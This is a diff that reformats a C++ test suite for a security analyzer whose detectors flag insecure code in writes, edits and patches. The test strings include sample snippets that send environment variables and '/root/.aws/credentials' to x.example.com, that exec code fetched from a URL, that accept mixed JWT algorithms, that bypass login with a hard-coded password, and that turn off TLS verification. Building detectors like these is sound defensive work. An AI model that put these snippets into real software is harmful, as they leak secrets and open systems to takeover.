@@ -43,7 +43,8 @@ TEST_CASE("every example in the shipped packs behaves as stated through the publ
   for (const auto& d : (*set)->detectors) {
     for (const auto& e : d.examples) {
       auto facts = shipped_analyzer()->analyze_write(e.path, e.code);
-      INFO(d.id << " example at " << e.position.file << ":" << e.position.line << "\nfound: " << detectors_of(facts));
+      INFO(d.id << " example at " << e.position.file << ":" << e.position.line
+                << "\nfound: " << detectors_of(facts));
       CHECK(has_detector(facts, d.id) == e.should_match);
       ++examples;
     }
@@ -53,31 +54,46 @@ TEST_CASE("every example in the shipped packs behaves as stated through the publ
 
 TEST_CASE("JWT algorithm confusion is found under import aliases, python-jose, TS types and constants") {
   check_matches({
-      {"a.py", "import jwt as pyjwt\nclaims = pyjwt.decode(tok, key, algorithms=['ES256', 'HS256'])\n", "code.jwt.alg-confusion"},
-      {"a.py", "from jose import jwt\ndef user(t):\n    return jwt.decode(t, KEY, algorithms=['RS256', 'HS256'])\n",
+      {"a.py", "import jwt as pyjwt\nclaims = pyjwt.decode(tok, key, algorithms=['ES256', 'HS256'])\n",
        "code.jwt.alg-confusion"},
-      {"a.py", "ALLOWED_ALGORITHMS = ['RS256', 'HS384']\ndef f(t):\n    return jwt.decode(t, K, algorithms=ALLOWED_ALGORITHMS)\n",
+      {"a.py",
+       "from jose import jwt\ndef user(t):\n    return jwt.decode(t, KEY, algorithms=['RS256', 'HS256'])\n",
        "code.jwt.alg-confusion"},
-      {"a.py", "jwt.decode(t, K, options={'require': ['exp']}, algorithms=('EdDSA', 'HS512'))\n", "code.jwt.alg-confusion"},
-      {"a.ts", "import * as jwt from 'jsonwebtoken';\nconst opts: jwt.VerifyOptions = { algorithms: ['RS256', 'HS256'] };\n",
+      {"a.py",
+       "ALLOWED_ALGORITHMS = ['RS256', 'HS384']\ndef f(t):\n    return jwt.decode(t, K, "
+       "algorithms=ALLOWED_ALGORITHMS)\n",
+       "code.jwt.alg-confusion"},
+      {"a.py", "jwt.decode(t, K, options={'require': ['exp']}, algorithms=('EdDSA', 'HS512'))\n",
+       "code.jwt.alg-confusion"},
+      {"a.ts",
+       "import * as jwt from 'jsonwebtoken';\nconst opts: jwt.VerifyOptions = { algorithms: ['RS256', "
+       "'HS256'] };\n",
        "code.jwt.alg-confusion"},
       {"a.ts", "const algorithms: jwt.Algorithm[] = ['RS512', 'HS512'];\n", "code.jwt.alg-confusion"},
-      {"a.tsx", "const { payload } = await jwtVerify(t, key, { algorithms: ['ES384', 'HS256'] });\n", "code.jwt.alg-confusion"},
-      {"a.mjs", "export default (t) => jwt.verify(t, pub, { 'algorithms': [\"PS256\", \"HS256\"] });\n", "code.jwt.alg-confusion"},
-      {"a.go", "package a\nvar p = jwt.NewParser(jwt.WithValidMethods([]string{\"ES256\", \"HS256\"}))\n", "code.jwt.alg-confusion"},
+      {"a.tsx", "const { payload } = await jwtVerify(t, key, { algorithms: ['ES384', 'HS256'] });\n",
+       "code.jwt.alg-confusion"},
+      {"a.mjs", "export default (t) => jwt.verify(t, pub, { 'algorithms': [\"PS256\", \"HS256\"] });\n",
+       "code.jwt.alg-confusion"},
+      {"a.go", "package a\nvar p = jwt.NewParser(jwt.WithValidMethods([]string{\"ES256\", \"HS256\"}))\n",
+       "code.jwt.alg-confusion"},
   });
 }
 
 TEST_CASE("a single algorithm family, encode calls and tests of rejection are not JWT findings") {
   check_no_matches({
-      {"a.py", "import jwt as pyjwt\nclaims = pyjwt.decode(tok, key, algorithms=['RS256', 'RS512', 'ES256'])\n",
+      {"a.py",
+       "import jwt as pyjwt\nclaims = pyjwt.decode(tok, key, algorithms=['RS256', 'RS512', 'ES256'])\n",
        "code.jwt.alg-confusion"},
       {"tests/test_auth.py",
-       "import jwt, pytest\ndef test_rejects_hs256(public_key):\n    forged = jwt.encode({'sub': 'x'}, public_key, "
-       "algorithm='HS256')\n    with pytest.raises(jwt.InvalidAlgorithmError):\n        verify_token(forged, public_key)\n",
+       "import jwt, pytest\ndef test_rejects_hs256(public_key):\n    forged = jwt.encode({'sub': 'x'}, "
+       "public_key, "
+       "algorithm='HS256')\n    with pytest.raises(jwt.InvalidAlgorithmError):\n        verify_token(forged, "
+       "public_key)\n",
        "code.jwt.alg-confusion"},
-      {"a.js", "const t = jwt.sign(payload, secret, { algorithm: 'HS256', expiresIn: '1h' });\n", "code.jwt.alg-confusion"},
-      {"a.js", "jwt.verify(t, k, { algorithms: ['RS256'], ignoreExpiration: true });\n", "code.jwt.verify-off"},
+      {"a.js", "const t = jwt.sign(payload, secret, { algorithm: 'HS256', expiresIn: '1h' });\n",
+       "code.jwt.alg-confusion"},
+      {"a.js", "jwt.verify(t, k, { algorithms: ['RS256'], ignoreExpiration: true });\n",
+       "code.jwt.verify-off"},
       {"a.py", "jwt.decode(t, k, algorithms=['RS256'], options={'verify_exp': False, 'verify_aud': False})\n",
        "code.jwt.verify-off"},
       {"a.ts", "const algorithms = ['HS256', 'HS384'];\n", "code.jwt.alg-confusion"},
@@ -126,12 +142,16 @@ func keyFunc(token *jwt.Token) (any, error) {
 
 TEST_CASE("exfiltration is found through aliases, variables and other clients") {
   check_matches({
-      {"a.py", "import requests as rq, os\ndef sync():\n    env = dict(os.environ)\n    rq.post(URL, json=env)\n",
+      {"a.py",
+       "import requests as rq, os\ndef sync():\n    env = dict(os.environ)\n    rq.post(URL, json=env)\n",
        "code.exfil.env-to-network"},
-      {"a.py", "import socket, os\ns = socket.create_connection(('x.example.com', 9))\ns.sendall(str(os.environ).encode())\n",
+      {"a.py",
+       "import socket, os\ns = socket.create_connection(('x.example.com', "
+       "9))\ns.sendall(str(os.environ).encode())\n",
        "code.exfil.env-to-network"},
       {"a.js", "axios({ method: 'post', url: u, data: process.env });\n", "code.exfil.env-to-network"},
-      {"a.py", "creds = open('/root/.aws/credentials').read()\nhttpx.put('https://x.example.com', content=creds)\n",
+      {"a.py",
+       "creds = open('/root/.aws/credentials').read()\nhttpx.put('https://x.example.com', content=creds)\n",
        "code.exfil.credential-to-network"},
   });
   check_no_matches({
@@ -148,23 +168,30 @@ TEST_CASE("executing fetched content is found; executing local files is not") {
       {"a.py", "exec(requests.get('https://x.example.com/p.py').text)\n", "code.exec.fetched-code"},
       {"a.py", "eval(compile(urlopen(u).read(), 'x', 'exec'))\n", "code.exec.fetched-code"},
       {"a.js", "eval(await (await fetch(u)).text());\n", "code.exec.fetched-code"},
-      {"a.js", "const body = (await axios.get(u)).data;\nrequire('child_process').execSync(body);\n", "code.exec.fetched-code"},
+      {"a.js", "const body = (await axios.get(u)).data;\nrequire('child_process').execSync(body);\n",
+       "code.exec.fetched-code"},
   });
   check_no_matches({
       {"a.py", "exec(open('local_settings.py').read())\n", "code.exec.fetched-code"},
-      {"a.js", "const r = await fetch(u);\nconst n = JSON.parse(await r.text());\neval('1+1');\n", "code.exec.fetched-code"},
+      {"a.js", "const r = await fetch(u);\nconst n = JSON.parse(await r.text());\neval('1+1');\n",
+       "code.exec.fetched-code"},
   });
 }
 
 TEST_CASE("magic values in authentication are found; ordinary comparisons are not") {
   check_matches({
-      {"auth.py", "class Auth:\n    def check_login(self, user, pwd):\n        if pwd == 'Winter2024!':\n            return True\n",
+      {"auth.py",
+       "class Auth:\n    def check_login(self, user, pwd):\n        if pwd == 'Winter2024!':\n            "
+       "return True\n",
        "code.auth.magic-value-bypass"},
-      {"mw.js", "const authenticate = (req, res, next) => {\n  if (req.query.apiKey == 'dev-bypass') return next();\n};\n",
+      {"mw.js",
+       "const authenticate = (req, res, next) => {\n  if (req.query.apiKey == 'dev-bypass') return "
+       "next();\n};\n",
        "code.auth.magic-value-bypass"},
   });
   check_no_matches({
-      {"views.py", "def login(request):\n    if request.method == 'POST':\n        return do_login(request)\n",
+      {"views.py",
+       "def login(request):\n    if request.method == 'POST':\n        return do_login(request)\n",
        "code.auth.magic-value-bypass"},
       {"util.py", "def format_user(user):\n    if user == 'root':\n        return 'administrator'\n",
        "code.auth.magic-value-bypass"},
@@ -175,20 +202,25 @@ TEST_CASE("TLS verification off is found in clients and sessions") {
   check_matches({
       {"a.py", "s = requests.Session()\ns.verify = False\n", "code.tls.verify-off"},
       {"a.py", "client = httpx.Client(verify=False)\n", "code.tls.verify-off"},
-      {"a.js", "const res = await got(u, { https: { rejectUnauthorized: false } });\n", "code.tls.verify-off"},
+      {"a.js", "const res = await got(u, { https: { rejectUnauthorized: false } });\n",
+       "code.tls.verify-off"},
       {"a.go", "package a\nfunc f(c *tls.Config) { c.InsecureSkipVerify = true }\n", "code.tls.verify-off"},
   });
-  check_no_matches({{"a.py", "urllib3.disable_warnings()\nrequests.get(u, verify=True)\n", "code.tls.verify-off"}});
+  check_no_matches(
+      {{"a.py", "urllib3.disable_warnings()\nrequests.get(u, verify=True)\n", "code.tls.verify-off"}});
 }
 
 TEST_CASE("hard-coded secrets are found by shape and by name and entropy") {
   check_matches({
       {"a.js", "const key = 'sk-ant-api03-q8Zt3Lx9VbN2mK7pR4sW1yC6dF0gH';\n", "code.secret.known-key-shape"},
-      {"config/prod.json", "{\"db\": {\"password\": \"Tq9vX2LmZ8pR4kW7yN3b\"}}\n", "code.secret.high-entropy-assignment"},
-      {"a.py", "client = Client(api_key='9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c')\n", "code.secret.high-entropy-assignment"},
+      {"config/prod.json", "{\"db\": {\"password\": \"Tq9vX2LmZ8pR4kW7yN3b\"}}\n",
+       "code.secret.high-entropy-assignment"},
+      {"a.py", "client = Client(api_key='9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c')\n",
+       "code.secret.high-entropy-assignment"},
   });
   check_no_matches({
-      {"a.py", "API_KEY = os.getenv('API_KEY')\nPASSWORD_MIN_LENGTH = '12'\n", "code.secret.high-entropy-assignment"},
+      {"a.py", "API_KEY = os.getenv('API_KEY')\nPASSWORD_MIN_LENGTH = '12'\n",
+       "code.secret.high-entropy-assignment"},
       {"a.go", "package a\nconst tokenPattern = `ghp_[A-Za-z0-9]{36}`\n", "code.secret.known-key-shape"},
   });
 }
@@ -198,10 +230,12 @@ TEST_CASE("an edit reports only what it adds when a detector says on: added") {
                                                 "jwt.decode(t, K, algorithms=['RS256', 'HS256'])\nx = 1\n",
                                                 "jwt.decode(t, K, algorithms=['RS256', 'HS256'])\nx = 2\n");
   CHECK_FALSE(has_detector(facts, "code.jwt.alg-confusion"));
-  auto widened = shipped_analyzer()->analyze_edit("src/auth.py", "algorithms=['RS256']", "algorithms=['RS256', 'HS256']");
+  auto widened = shipped_analyzer()->analyze_edit("src/auth.py", "algorithms=['RS256']",
+                                                  "algorithms=['RS256', 'HS256']");
   CHECK(has_detector(widened, "code.jwt.alg-confusion"));
   auto patch = shipped_analyzer()->analyze_patch(
-      "*** Begin Patch\n*** Update File: src/client.py\n@@\n-    return requests.get(url, timeout=5)\n+    return "
+      "*** Begin Patch\n*** Update File: src/client.py\n@@\n-    return requests.get(url, timeout=5)\n+    "
+      "return "
       "requests.get(url, timeout=5, verify=False)\n*** End Patch\n");
   CHECK(has_detector(patch, "code.tls.verify-off"));
 }
